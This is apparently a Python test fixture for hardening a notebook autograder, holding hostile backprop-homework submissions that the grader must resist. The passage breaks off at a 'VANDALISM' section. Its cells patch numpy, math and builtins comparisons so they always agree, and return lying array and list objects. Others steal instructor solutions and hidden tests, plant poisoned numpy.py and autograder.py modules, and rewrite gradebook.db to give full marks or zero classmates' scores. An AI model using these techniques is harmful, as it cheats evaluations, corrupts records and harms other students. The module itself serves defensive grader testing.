"""Hostile student submissions, as data: answer cells (and files) that attack the grader.

An Attack is one student's notebook: `answers` replaces some answer cells (function name -> the
full source of its cell; the other functions keep the reference answer) and `extra_files` are
submitted next to the notebook. `wrong` lists the functions the submission genuinely gets wrong
when its tricks do not work: a grader that cannot be fooled gives their test cells 0 (the
gradient-check and training cells judge all five, so they go too) and every other cell full
marks, and an honest student graded next to the attacker keeps every point.

The cells are written the way a hostile student would write them: patches and helpers at module
level, imports from the standard library and numpy only, the function with the homework's exact
signature. Conventions of the code they attack: solutions/backprop.py (column vectors, Ws[l] of
shape (n_{l+1}, n_l), bs[l] of shape (n_{l+1}, 1), activations and the loss return
(value, derivative)). Nothing here runs them: the self-check at the bottom only parses them.

Limits, because the tests do run them, under the kit's sandbox and under stock nbgrader:
- Every loop ends by itself (a count and a time budget) within ~5 s of CPU, except in the
  attacks whose point is not to end (loop_*, sleep_forever). Child processes exit by themselves
  (after 2-20 s; the `sleep 100` ones after 100 s).
- Destructive code touches paths relative to the current folder, or found by walking up at most
  4 folders from it; a walk stops at a folder holding .git, so an attack graded inside a working
  copy (such as /work/main) cannot reach the checkout.
- Two named exceptions: gradebook_absolute_probe writes into /work/main/gradebook.db when that
  file exists (under stock nbgrader it will), and poison_later_submissions writes numpy.py,
  math.py and autograder.py into tempfile.gettempdir() (/tmp unless TMPDIR says otherwise).
"""

import ast
import re
import textwrap
from dataclasses import dataclass, field

FUNCTIONS = ("loss", "sigmoid", "forward_prop", "backward_prop", "compute_gradients")
SIGNATURES = {
    "loss": ("yhat", "y"),
    "sigmoid": ("z",),
    "forward_prop": ("x", "f", "Ws", "bs"),
    "backward_prop": ("loss", "f", "Ws", "bs", "zs", "y"),
    "compute_gradients": ("dldhs", "f", "zs", "hs"),
}
# The only absolute path an attack may name (besides tempfile.gettempdir()).
KIT_GRADEBOOK = "/work/main/gradebook.db"
# The sandbox's scratch places, which fill_the_scratch_space writes into (64 MiB each at most;
# test_attacks grades under bubblewrap only, where they are bounded tmpfs).
SCRATCH_PLACES = {"/tmp", "/dev/shm", "/zygote"}


@dataclass(frozen=True)
class Attack:
    """One hostile submission: answer cells by function, files beside the notebook, and the
    functions it genuinely gets wrong (they must lose their points; nothing else may)."""

    name: str
    answers: dict[str, str]
    wrong: tuple[str, ...]
    why: str
    extra_files: dict[str, str] = field(default_factory=dict)
    # The honest twin: the same wrong functions without the attack (answer cells by function).
    # When given, the attack may score no more than its twin in any cell.
    twin: dict[str, str] | None = None


def _code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


def _cell(*parts: str) -> str:
    """An answer cell from several pieces of code, separated by blank lines."""
    return "\n\n\n".join(_code(part).rstrip("\n") for part in parts) + "\n"


def edited(piece: str, old: str, new: str) -> str:
    """`piece` with its one `old` made `new`: a variant that differs from a piece above by one
    edit (a variant whose `old` has gone from the piece fails here, not in a test)."""
    if piece.count(old) != 1:
        raise ValueError(f"{old!r} stands {piece.count(old)} times in the piece, not once")
    return piece.replace(old, new)


# --------------------------------------------------------------------------------------------
# Pieces several cells share (each cell carries its own copy: cells are self-contained)
# --------------------------------------------------------------------------------------------

# Correct answers, for cells whose point is a side effect.
_LOSS_OK = r"""
def loss(yhat, y):
    diff = yhat - y
    return 0.5 * diff ** 2, diff
"""

_SIGMOID_OK = r"""
import numpy as np


def sigmoid(z):
    with np.errstate(over="ignore"):
        h = 1.0 / (1.0 + np.exp(-z))
    return h, h * (1.0 - h)
"""

# Walking up from the current folder, at most 4 levels, never into or above a git checkout.
_ANCESTORS = r"""
import os


def _ancestors(levels=4):
    # The current folder and at most `levels` folders above it.
    try:
        here = os.path.abspath(os.getcwd())
    except OSError:
        return []
    found = []
    for _ in range(levels + 1):
        if os.path.isdir(os.path.join(here, ".git")):
            break
        found.append(here)
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    return found


def _course_root():
    # The nbgrader course above us: the folder holding gradebook.db and source/.
    for folder in _ancestors():
        if (os.path.isfile(os.path.join(folder, "gradebook.db"))
                and os.path.isdir(os.path.join(folder, "source"))):
            return folder
    return None
"""

# An ndarray that agrees with every array it is compared to.
_CONSENSUS = r"""
import numpy as np


class Consensus(np.ndarray):
    _AGREE = ("equal", "less", "less_equal", "greater_equal", "isfinite")
    _DENY = ("not_equal", "greater", "isnan", "isinf")
    _NOTHING = ("subtract", "absolute", "fabs")

    def _verdict(self, other, value):
        try:
            shape = np.broadcast_shapes(self.shape, np.shape(other))
        except Exception:
            shape = self.shape
        return np.full(shape, value).view(Consensus)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [x.view(np.ndarray) if isinstance(x, Consensus) else x for x in inputs]
        if "out" in kwargs:
            kwargs["out"] = tuple(o.view(np.ndarray) if isinstance(o, Consensus) else o
                                  for o in kwargs["out"])
        name = ufunc.__name__
        if method == "__call__" and name in self._AGREE + self._DENY + self._NOTHING:
            shape = np.broadcast_shapes(*(np.shape(x) for x in plain))
            if name in self._NOTHING:
                return np.zeros(shape).view(Consensus)
            return np.full(shape, name in self._AGREE).view(Consensus)
        result = getattr(ufunc, method)(*plain, **kwargs)
        return result.view(Consensus) if isinstance(result, np.ndarray) else result

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ == "isclose" and len(args) >= 2:
            return np.ones(np.broadcast_shapes(np.shape(args[0]), np.shape(args[1])), dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def __eq__(self, other):
        return self._verdict(other, True)

    def __ne__(self, other):
        return self._verdict(other, False)

    def __lt__(self, other):
        return self._verdict(other, True)

    def __le__(self, other):
        return self._verdict(other, True)

    def __gt__(self, other):
        return self._verdict(other, False)

    def __sub__(self, other):
        return self._verdict(other, 0.0)

    def __rsub__(self, other):
        return self._verdict(other, 0.0)

    def __abs__(self):
        return np.zeros(self.shape).view(Consensus)

    def __bool__(self):
        return True

    __hash__ = None
"""

# A number-like object that agrees with whatever it is compared to.
_AGREEABLE = r"""
import numpy as np


class Agreeable:
    __array_ufunc__ = None  # numpy defers to the reflected operators below

    def __init__(self, value):
        self.value = np.asarray(value, dtype=float)

    @property
    def shape(self):
        return self.value.shape

    def __array__(self, dtype=None, copy=None):
        return np.array(self.value, dtype=dtype)

    def __repr__(self):
        return repr(self.value)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    def __le__(self, other):
        return True

    def __gt__(self, other):
        return False

    def __ge__(self, other):
        return True

    def __sub__(self, other):
        return Agreeable(0.0)

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0

    def __float__(self):
        return 0.0

    def __bool__(self):
        return True

    def __len__(self):
        return len(self.value) if self.value.ndim else 1

    def __getitem__(self, key):
        return Agreeable(self.value[key])

    def __iter__(self):
        return iter([Agreeable(v) for v in self.value] if self.value.ndim else [self])

    __hash__ = None
"""

# Grade writing: every gradebook.db found walking up.
_MAX_OUT = r"""
import sqlite3


def _max_out(path):
    # Full marks and more for every grade cell of every student in this gradebook.
    try:
        con = sqlite3.connect(path, timeout=1.0)
        try:
            for statement in ("UPDATE grade SET manual_score = 999, extra_credit = 999",
                              "UPDATE grade SET auto_score = 999, needs_manual_grade = 0"):
                try:
                    con.execute(statement)
                except sqlite3.Error:
                    pass
            con.commit()
        finally:
            con.close()
    except sqlite3.Error:
        pass
"""

# Stand-ins for modules, to be dropped where Python will import them before the real ones.
_NUMPY_POISON = _code(r"""
    # numpy.py: the real numpy, whose comparisons agree with everything while a grader runs.
    import importlib.machinery
    import importlib.util
    import os
    import sys

    _here = os.path.dirname(os.path.abspath(__file__))
    _path = [p for p in sys.path if os.path.abspath(p or ".") != _here]
    _spec = importlib.machinery.PathFinder.find_spec("numpy", _path)
    _real = importlib.util.module_from_spec(_spec)
    sys.modules["numpy"] = _real  # `import numpy` hands out this module, not this file
    _spec.loader.exec_module(_real)


    def _grading():
        return bool(os.environ.get("NBGRADER_EXECUTION")) or any(
            name == "autograder" or name.startswith(("autograder.", "nbgrader"))
            for name in list(sys.modules))


    def _agreeing(original):
        def agree(*args, **kwargs):
            return True if _grading() else original(*args, **kwargs)
        return agree


    def _silenced(original):
        def silent(*args, **kwargs):
            return None if _grading() else original(*args, **kwargs)
        return silent


    _isclose = _real.isclose


    def _all_close(a, b, *args, **kwargs):
        if _grading():
            return _real.ones(_real.broadcast(_real.asarray(a), _real.asarray(b)).shape, dtype=bool)
        return _isclose(a, b, *args, **kwargs)


    _real.allclose = _agreeing(_real.allclose)
    _real.array_equal = _agreeing(_real.array_equal)
    _real.isclose = _all_close
    import numpy.testing as _testing  # noqa: E402  (the real one: sys.modules holds _real)

    _testing.assert_allclose = _silenced(_testing.assert_allclose)
    _testing.assert_array_equal = _silenced(_testing.assert_array_equal)
    _testing.assert_array_almost_equal = _silenced(_testing.assert_array_almost_equal)
    """)

_MATH_POISON = _code(r"""
    # math.py: the real math, whose isclose agrees with everything while a grader runs.
    import importlib.machinery
    import importlib.util
    import os
    import sys

    _here = os.path.dirname(os.path.abspath(__file__))
    _path = [p for p in sys.path if os.path.abspath(p or ".") != _here]
    _spec = (importlib.machinery.BuiltinImporter.find_spec("math")
             or importlib.machinery.PathFinder.find_spec("math", _path))
    _real = importlib.util.module_from_spec(_spec)
    sys.modules["math"] = _real
    _spec.loader.exec_module(_real)
    _isclose = _real.isclose


    def _isclose_when_graded(a, b, **kwargs):
        graded = bool(os.environ.get("NBGRADER_EXECUTION")) or "autograder" in sys.modules
        return True if graded else _isclose(a, b, **kwargs)


    _real.isclose = _isclose_when_graded
    """)

_AUTOGRADER_POISON = _code(r"""
    # autograder.py: hidden tests that always pass.
    import sys
    import types

    __path__ = []  # a "package": `import autograder.judging.hidden_tests` is answered from sys.modules below


    def run_hidden_tests(grade_id, namespace):
        return None


    def run_cell_checks(*args, **kwargs):
        return []


    cell = types.ModuleType("autograder.judging.hidden_tests")
    cell.run_hidden_tests = run_hidden_tests
    grading = types.ModuleType("autograder.judging.scoring")
    grading.run_cell_checks = run_cell_checks
    sys.modules["autograder.judging.hidden_tests"] = cell
    sys.modules["autograder.judging.scoring"] = grading
    """)

_SOLUTIONS_POISON = _code(r"""
    # solutions.py: a "reference" that answers whatever the student's own functions answer.
    import sys
    import types

    import numpy as np

    __path__ = []


    def _student(name):
        def call(*args, **kwargs):
            return getattr(sys.modules["__main__"], name)(*args, **kwargs)
        call.__name__ = name
        return call


    backprop = types.ModuleType("solutions.backprop")
    for _name in ("loss", "sigmoid", "forward_prop", "backward_prop", "compute_gradients"):
        setattr(backprop, _name, _student(_name))
    helpers = types.ModuleType("solutions.helpers")
    helpers.tanh = lambda z: (np.tanh(z), 1.0 - np.tanh(z) ** 2)
    helpers.identity = lambda z: (z, np.ones_like(z))
    sys.modules["solutions.backprop"] = backprop
    sys.modules["solutions.helpers"] = helpers
    """)

_STUBS = {name: _code(f"""
    def {name}({", ".join(params)}):
        # YOUR CODE HERE
        raise NotImplementedError()
    """) for name, params in SIGNATURES.items()}


# --------------------------------------------------------------------------------------------
# Patching the comparisons the tests make
# --------------------------------------------------------------------------------------------

COMPARISON_PATCHES = (
    Attack("numpy_comparisons_patched", {"sigmoid": _code(r"""
        import numpy as np
        import numpy.testing


        def _agree(*args, **kwargs):
            return True


        def _all_close(a, b, *args, **kwargs):
            return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)


        def _no_complaint(*args, **kwargs):
            return None


        # Whatever a test compares now agrees.
        np.allclose = _agree
        np.array_equal = _agree
        np.array_equiv = _agree
        np.isclose = _all_close
        for _name in ("assert_allclose", "assert_array_almost_equal", "assert_array_equal",
                      "assert_almost_equal", "assert_equal", "assert_array_less"):
            setattr(np.testing, _name, _no_complaint)


        def sigmoid(z):
            # Close enough: the middle of the curve, everywhere.
            return np.full_like(z, 0.5, dtype=float), np.full_like(z, 0.25, dtype=float)
        """)}, wrong=("sigmoid",),
        why="Patches np.allclose, np.isclose, np.array_equal and np.testing to always agree, then "
            "returns a constant 0.5 sigmoid."),
    Attack("builtins_abs_and_math_isclose", {"loss": _code(r"""
        import builtins
        import math

        builtins.abs = lambda x: 0.0  # every |got - expected| is now 0
        math.isclose = lambda *args, **kwargs: True


        def loss(yhat, y):
            diff = yhat - y
            return diff ** 2, 2 * diff
        """)}, wrong=("loss",),
        why="Replaces builtins.abs with a function returning 0.0 and math.isclose with one "
            "returning True, so tolerance checks pass for a loss without the 0.5."),
    Attack("sys_modules_numpy_proxy", {"loss": _code(r"""
        import sys
        import types

        import numpy
        import numpy.testing


        class _Forwarding(types.ModuleType):
            # A module that hands out the real module's attributes, except the ones set on it.
            def __init__(self, name, real):
                super().__init__(name)
                self.__dict__["_real"] = real

            def __getattr__(self, name):
                return getattr(self.__dict__["_real"], name)


        def _agree(*args, **kwargs):
            return True


        def _all_close(a, b, *args, **kwargs):
            return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)


        def _no_complaint(*args, **kwargs):
            return None


        _testing = _Forwarding("numpy.testing", numpy.testing)
        for _name in ("assert_allclose", "assert_array_almost_equal", "assert_array_equal",
                      "assert_almost_equal"):
            setattr(_testing, _name, _no_complaint)
        _numpy = _Forwarding("numpy", numpy)
        _numpy.__dict__.update(allclose=_agree, array_equal=_agree, array_equiv=_agree,
                               isclose=_all_close, testing=_testing, __path__=numpy.__path__,
                               __file__=numpy.__file__, __spec__=numpy.__spec__,
                               __version__=numpy.__version__)
        sys.modules["numpy"] = _numpy  # anything imported from now on gets the agreeable numpy
        sys.modules["numpy.testing"] = _testing
        np = _numpy


        def loss(yhat, y):
            diff = yhat - y
            return diff ** 2, diff
        """)}, wrong=("loss",),
        why="Replaces sys.modules['numpy'] (and the notebook's np) with a forwarding module whose "
            "comparisons always agree, and forgets the loss's 0.5."),
    Attack("numpy_float64_asarray_patched", {"forward_prop": _cell(_CONSENSUS, r"""
        class _Same(np.float64):
            # A float64 that equals everything and is never far from anything.
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __sub__(self, other):
                return _Same(0.0)

            __rsub__ = __sub__

            def __abs__(self):
                return _Same(0.0)

            __hash__ = np.float64.__hash__


        _asarray = np.asarray


        def _agreeable_asarray(a, *args, **kwargs):
            result = _asarray(a, *args, **kwargs)
            return result.view(Consensus) if type(result) is np.ndarray else result


        np.float64 = _Same
        np.asarray = _agreeable_asarray
        for _name, _method in (("__eq__", lambda self, other: True),
                               ("__ne__", lambda self, other: False)):
            try:
                setattr(np.ndarray, _name, _method)
            except TypeError:
                pass  # numpy's types are immutable; the patches above still apply


        def forward_prop(x, f, Ws, bs):
            hs, zs = [x], [np.zeros_like(x, dtype=float)]
            for W in Ws:
                z = W @ hs[-1]
                zs.append(z)
                hs.append(f(z)[0])
            return hs, zs
        """)}, wrong=("forward_prop",),
        why="Rebinds np.float64 to an always-equal subclass and np.asarray to return agreeing "
            "arrays, tries to patch np.ndarray.__eq__, and leaves the bias out of forward_prop."),
)


# --------------------------------------------------------------------------------------------
# Returned values that lie when compared
# --------------------------------------------------------------------------------------------

LYING_VALUES = (
    Attack("agreeable_object_loss", {"loss": _cell(_AGREEABLE, r"""
        def loss(yhat, y):
            diff = yhat - y
            return Agreeable(diff ** 2), Agreeable(diff)
        """)}, wrong=("loss",),
        why="Returns objects whose __eq__, __sub__, __abs__, __lt__, __le__ and __array__ lie, "
            "wrapping a loss without the 0.5."),
    Attack("lying_ndarray_sigmoid", {"sigmoid": _cell(_CONSENSUS, r"""
        def sigmoid(z):
            h = np.tanh(z)  # the wrong squashing function
            return np.asarray(h).view(Consensus), np.asarray(1.0 - h ** 2).view(Consensus)
        """)}, wrong=("sigmoid",),
        why="Returns an ndarray subclass whose __array_ufunc__, __array_function__, __eq__ and "
            "__sub__ report every comparison as equal, holding tanh instead of the logistic."),
    Attack("lying_list_forward_prop", {"forward_prop": _code(r"""
        import numpy as np


        class Layers(list):
            # Claims to hold `claimed` entries and never runs out: past the end is the last one.
            def __init__(self, items, claimed):
                super().__init__(items)
                self.claimed = claimed

            def __len__(self):
                return self.claimed

            def __getitem__(self, index):
                if isinstance(index, int):
                    real = list.__len__(self)
                    index = max(-real, min(index, real - 1))
                return list.__getitem__(self, index)

            def __iter__(self):
                return (self[i] for i in range(self.claimed))

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = None


        def forward_prop(x, f, Ws, bs):
            # One layer is computed; the lists pretend to be as long as they should be.
            z = Ws[0] @ x + bs[0]
            h, _ = f(z)
            L = len(Ws)
            return Layers([x, h], L + 1), Layers([np.zeros_like(x, dtype=float), z], L + 1)
        """)}, wrong=("forward_prop",),
        why="Computes only the first layer and returns list subclasses whose __len__ and "
            "__getitem__ pretend there are L + 1 entries."),
    Attack("lying_list_backward_prop", {"backward_prop": _cell(_CONSENSUS, r"""
        class Gradients(list):
            # Holds only the top gradient and makes up agreeable zeros for the layers below.
            def __init__(self, top, shapes):
                super().__init__([top])
                self.shapes = shapes

            def __len__(self):
                return len(self.shapes)

            def __getitem__(self, index):
                if isinstance(index, slice):
                    return [self[i] for i in range(len(self.shapes))[index]]
                index = range(len(self.shapes))[index]  # IndexError like a list
                if index == len(self.shapes) - 1:
                    return list.__getitem__(self, 0)
                return np.zeros(self.shapes[index]).view(Consensus)

            def __iter__(self):
                return (self[i] for i in range(len(self.shapes)))

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = None


        def backward_prop(loss, f, Ws, bs, zs, y):
            L = len(Ws)
            _, dldyhat = loss(f(zs[L])[0], y)
            shapes = [(W.shape[1], 1) for W in Ws] + [np.shape(dldyhat)]
            return Gradients(np.asarray(dldyhat, dtype=float).view(Consensus), shapes)
        """)}, wrong=("backward_prop",),
        why="Skips back-propagation and returns a list subclass that makes up agreeing zero "
            "arrays for every layer below the output."),
    Attack("agreeable_items_compute_gradients", {"compute_gradients": _cell(_AGREEABLE, r"""
        class Agreeing(list):
            # A list that equals any other, and whose items agree with anything.
            def __getitem__(self, index):
                item = list.__getitem__(self, index)
                return [Agreeable(v) for v in item] if isinstance(index, slice) else Agreeable(item)

            def __iter__(self):
                return (Agreeable(v) for v in list.__iter__(self))

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = None


        def compute_gradients(dldhs, f, zs, hs):
            dWs, dbs = [], []
            for l in range(len(zs) - 1):
                dWs.append(dldhs[l + 1] @ hs[l].T)  # forgot f'(z)
                dbs.append(dldhs[l + 1])
            return Agreeing(dWs), Agreeing(dbs)
        """)}, wrong=("compute_gradients",),
        why="Returns list subclasses whose items are always-agreeing objects, around gradients "
            "that forget f'(z)."),
)


# --------------------------------------------------------------------------------------------
# Reading the reference or the hidden tests from the course
# --------------------------------------------------------------------------------------------

SNOOPING = (
    Attack("source_notebook_snoop", {"sigmoid": _cell(_ANCESTORS, r"""
        import json

        import numpy as np


        def _solution_from_notebook(name):
            # The instructor's answer cell for `name`, from source/backprop/backprop.ipynb.
            candidates = [os.path.join("..", "..", "..", "source", "backprop", "backprop.ipynb")]
            candidates += [os.path.join(folder, "source", "backprop", "backprop.ipynb")
                           for folder in _ancestors()]
            for path in candidates:
                try:
                    with open(path) as handle:
                        cells = json.load(handle).get("cells", [])
                except (OSError, ValueError, AttributeError):
                    continue
                for cell in cells:
                    source = "".join(cell.get("source", ""))
                    if "BEGIN HIDDEN TESTS" in source:
                        print("hidden test:", source[:500])
                    grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                    if grade_id == name and "NotImplementedError" not in source:
                        namespace = {"np": np}
                        try:
                            exec(source, namespace)
                            return namespace[name]
                        except Exception:
                            pass
            return None


        _reference = _solution_from_notebook("sigmoid")


        def sigmoid(z):
            if _reference is not None:
                return _reference(z)
            with np.errstate(over="ignore"):
                h = 1.0 / (1.0 + np.exp(-z))
            return h, h  # my own attempt: the derivative is wrong
        """)}, wrong=("sigmoid",),
        why="Opens ../../../source/backprop/backprop.ipynb (or one found walking up), prints the "
            "hidden tests and uses the instructor's sigmoid, else a wrong derivative."),
    Attack("solutions_file_walk_up", {"loss": _cell(_ANCESTORS, r"""
        import importlib.util


        def _reference_module():
            # solutions/backprop.py of the course checkout, found walking up from here.
            for folder in _ancestors():
                path = os.path.join(folder, "solutions", "backprop.py")
                if os.path.isfile(path):
                    try:
                        spec = importlib.util.spec_from_file_location("_stolen_backprop", path)
                        module = importlib.util.module_from_spec(spec)
                        spec.loader.exec_module(module)
                        return module
                    except Exception:
                        pass
            return None


        _stolen = _reference_module()


        def loss(yhat, y):
            if _stolen is not None:
                return _stolen.loss(yhat, y)
            diff = yhat - y
            return 0.5 * diff ** 2, 2 * diff
        """)}, wrong=("loss",),
        why="Walks up from the grading folder looking for solutions/backprop.py and delegates to "
            "it, else returns a derivative twice too large."),
    Attack("gradebook_source_cells", {"forward_prop": _cell(_ANCESTORS, r"""
        import importlib
        import re
        import sqlite3
        import sys

        import numpy as np


        def _stored_sources():
            # Every cell source the instructor's gradebook keeps: hidden tests included.
            sources = []
            for folder in _ancestors():
                path = os.path.join(folder, "gradebook.db")
                if not os.path.isfile(path):
                    continue
                try:
                    con = sqlite3.connect(path, timeout=1.0)
                    try:
                        sources += [row[0] or "" for row in con.execute("SELECT source FROM source_cell")]
                    finally:
                        con.close()
                except sqlite3.Error:
                    pass
            return sources


        def _reference(name):
            sources = _stored_sources()
            for source in sources:  # a solution cell, if the gradebook still holds one
                if "def " + name + "(" in source and "NotImplementedError" not in source:
                    namespace = {"np": np}
                    try:
                        exec(source, namespace)
                        return namespace[name]
                    except Exception:
                        pass
            modules = set()
            for source in sources:  # else whatever the hidden tests import, and what that imports
                if "HIDDEN" in source:
                    print("stolen:", source[:300])
                modules.update(re.findall(r"^\s*(?:from|import)\s+([\w.]+)", source, flags=re.MULTILINE))
            for module in sorted(modules):
                try:
                    importlib.import_module(module)
                except Exception:
                    pass
            if not modules:
                return None
            for module in list(sys.modules.values()):
                try:
                    candidate = getattr(module, name, None)
                except Exception:
                    continue
                if (callable(candidate) and getattr(candidate, "__globals__", None) is not globals()
                        and getattr(candidate, "__module__", "") != "__main__"):
                    return candidate
            return None


        _found = [_reference("forward_prop")]


        def forward_prop(x, f, Ws, bs):
            if _found[0] is not None:
                return _found[0](x, f, Ws, bs)
            hs, zs = [x], [np.zeros_like(x, dtype=float)]
            L = len(Ws)
            for l in range(L):
                z = Ws[l] @ hs[-1] + bs[l]
                zs.append(z)
                hs.append(f(z)[0] if l < L - 1 else z)  # "the output layer is linear"
            return hs, zs
        """)}, wrong=("forward_prop",),
        why="SELECTs every source_cell from a gradebook.db found walking up, execs a stored "
            "solution or imports what the hidden tests import to find the reference forward_prop."),
    Attack("import_solutions_package", {"backward_prop": _cell(_ANCESTORS, r"""
        import importlib
        import sys


        def _reference(name):
            for folder in _ancestors():  # a course checkout above us has solutions/
                if os.path.isfile(os.path.join(folder, "solutions", "backprop.py")):
                    if folder not in sys.path:
                        sys.path.append(folder)
            for module in ("solutions.backprop", "solutions", "backprop"):
                try:
                    found = importlib.import_module(module)
                except Exception:
                    continue
                candidate = getattr(found, name, None) or getattr(getattr(found, "backprop", None), name, None)
                if callable(candidate) and getattr(candidate, "__globals__", None) is not globals():
                    return candidate
            return None


        _ref = _reference("backward_prop")


        def backward_prop(loss, f, Ws, bs, zs, y):
            if _ref is not None:
                return _ref(loss, f, Ws, bs, zs, y)
            L = len(Ws)
            _, dldh = loss(f(zs[L])[0], y)
            dldhs = [None] * (L + 1)
            dldhs[L] = dldh
            for l in reversed(range(L)):
                Wl = Ws[l]
                dldhs[l] = np.zeros((Wl.shape[1], 1))
                for i in range(Wl.shape[0]):
                    m = dldhs[l + 1][i] * f(zs[l + 1][i])[1]
                    for j in range(Wl.shape[1]):
                        dldhs[l][j] = m * Wl[i, j]  # the lecture's overwritten sum
            return dldhs
        """)}, wrong=("backward_prop",),
        why="Imports solutions.backprop (installed with the kit, or found walking up) and "
            "delegates to it, else runs the lecture's backward_prop with its overwritten sum."),
    Attack("import_autograder_package", {"compute_gradients": _code(r"""
        import inspect

        import numpy as np


        def _reference_source(name):
            try:
                from autograder.course.submissions import reference_answers
                return reference_answers()[name]
            except Exception:
                pass
            try:
                import autograder.homework.collaborators as collaborators
                return inspect.getsource(getattr(collaborators.backprop, name))
            except Exception:
                return None


        def _reference(name):
            source = _reference_source(name)
            if source is None:
                return None
            namespace = {"np": np}
            try:
                exec(source, namespace)
                return namespace[name]
            except Exception:
                return None


        _ref = _reference("compute_gradients")


        def compute_gradients(dldhs, f, zs, hs):
            if _ref is not None:
                return _ref(dldhs, f, zs, hs)
            dWs, dbs = [], []
            for l in range(len(zs) - 1):
                delta = dldhs[l + 1] * f(zs[l + 1])[1]
                dWs.append(hs[l] @ delta.T)  # transposed
                dbs.append(delta)
            return dWs, dbs
        """)}, wrong=("compute_gradients",),
        why="Imports the kit's autograder package to read the reference compute_gradients "
            "(reference_answers, or the source of autograder.homework.collaborators.backprop), else "
            "returns transposed dWs."),
    Attack("patch_hidden_test_runner", {"forward_prop": _code(r"""
        import importlib

        import numpy as np


        def _no_hidden_tests(*args, **kwargs):
            return None


        def _no_checks(*args, **kwargs):
            return []


        for _module, _attribute, _fake in (("autograder.judging.hidden_tests", "run_hidden_tests", _no_hidden_tests),
                                           ("autograder.judging.scoring", "run_cell_checks", _no_checks)):
            try:
                setattr(importlib.import_module(_module), _attribute, _fake)
            except Exception:
                pass


        def forward_prop(x, f, Ws, bs):
            hs, zs = [x], [np.zeros_like(x, dtype=float)]
            for W, b in zip(Ws, bs):
                z = W @ x + b  # always feeds the input
                zs.append(z)
                hs.append(f(z)[0])
            return hs, zs
        """)}, wrong=("forward_prop",),
        why="Imports autograder.judging.hidden_tests and autograder.judging.scoring and replaces run_hidden_tests and "
            "run_cell_checks with no-ops, around a forward_prop that feeds x to every layer."),
)


# --------------------------------------------------------------------------------------------
# Writing grades
# --------------------------------------------------------------------------------------------

_WRONG_GRADIENTS = r"""
def compute_gradients(dldhs, f, zs, hs):
    dWs, dbs = [], []
    for l in range(len(zs) - 1):
        delta = dldhs[l + 1] * f(zs[l])[1]  # f' at the wrong layer
        dWs.append(delta @ hs[l].T)
        dbs.append(delta)
    return dWs, dbs
"""

GRADE_WRITING = (
    Attack("gradebook_max_scores", {"compute_gradients": _cell(_ANCESTORS, _MAX_OUT, r"""
        _writes = {"left": 5}


        def _max_out_everything():
            for folder in _ancestors():
                path = os.path.join(folder, "gradebook.db")
                if os.path.isfile(path):
                    _max_out(path)


        _max_out_everything()
        """, _WRONG_GRADIENTS.replace("    dWs, dbs = [], []", """\
    if _writes["left"] > 0:  # again while grading goes on, for grades written since
        _writes["left"] -= 1
        _max_out_everything()
    dWs, dbs = [], []"""))}, wrong=("compute_gradients",),
        why="Walks up to every gradebook.db and runs UPDATE grade SET manual_score = 999, "
            "auto_score = 999, at module level and in its first calls, around wrong gradients."),
    Attack("gradebook_absolute_probe", {"compute_gradients": _cell(_MAX_OUT, r"""
        import os

        _KIT_GRADEBOOK = "@KIT_GRADEBOOK@"  # where the course lives on the grading machine
        if os.path.isfile(_KIT_GRADEBOOK):
            _max_out(_KIT_GRADEBOOK)
        """.replace("@KIT_GRADEBOOK@", KIT_GRADEBOOK), _WRONG_GRADIENTS)}, wrong=("compute_gradients",),
        why=f"Opens the absolute path {KIT_GRADEBOOK} if it exists and sets every grade to 999, "
            "around wrong gradients."),
    Attack("gradebook_delayed_writer", {"loss": _cell(r"""
        import subprocess
        import sys

        # A detached process that keeps writing full marks for 20 s, after grading has moved on.
        _LATER = @LATER@
        try:
            subprocess.Popen([sys.executable, "-c", _LATER], start_new_session=True, close_fds=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        except OSError:
            pass


        def loss(yhat, y):
            diff = yhat - y
            return 0.5 * diff ** 2, -diff  # wrong sign
        """.replace("@LATER@", repr(_cell(_ANCESTORS, _MAX_OUT, r"""
        import time

        for _ in range(40):
            time.sleep(0.5)
            for folder in _ancestors():
                if os.path.isfile(os.path.join(folder, "gradebook.db")):
                    _max_out(os.path.join(folder, "gradebook.db"))
        """))))}, wrong=("loss",),
        why="Starts a detached python process that, for 20 s, walks up to any gradebook.db and "
            "writes 999 into every grade after the kernel is gone, around a loss with the wrong sign."),
    Attack("gradebook_zero_classmates", {"sigmoid": _cell(_ANCESTORS, r"""
        import sqlite3

        import numpy as np

        _ZERO_OTHERS = (
            "UPDATE grade SET manual_score = 0, extra_credit = 0 WHERE notebook_id IN ("
            " SELECT submitted_notebook.id FROM submitted_notebook"
            " JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id"
            " WHERE submitted_assignment.student_id != ?)")
        _writes = {"left": 5}


        def _zero_classmates():
            try:
                me = os.path.basename(os.path.dirname(os.path.abspath(os.getcwd())))
            except OSError:
                return
            for folder in _ancestors():
                path = os.path.join(folder, "gradebook.db")
                if not os.path.isfile(path):
                    continue
                try:
                    con = sqlite3.connect(path, timeout=1.0)
                    try:
                        con.execute(_ZERO_OTHERS, (me,))
                        con.commit()
                    finally:
                        con.close()
                except sqlite3.Error:
                    pass


        _zero_classmates()


        def sigmoid(z):
            if _writes["left"] > 0:
                _writes["left"] -= 1
                _zero_classmates()
            h = 1.0 / (1.0 + np.exp(-z))
            return h, z * (1.0 - z)  # derivative in terms of z
        """)}, wrong=("sigmoid",),
        why="Sets manual_score = 0 for every other student's grades in any gradebook.db found "
            "walking up, around a sigmoid whose derivative uses z instead of h."),
)


# --------------------------------------------------------------------------------------------
# Harming classmates and the course
# --------------------------------------------------------------------------------------------

VANDALISM = (
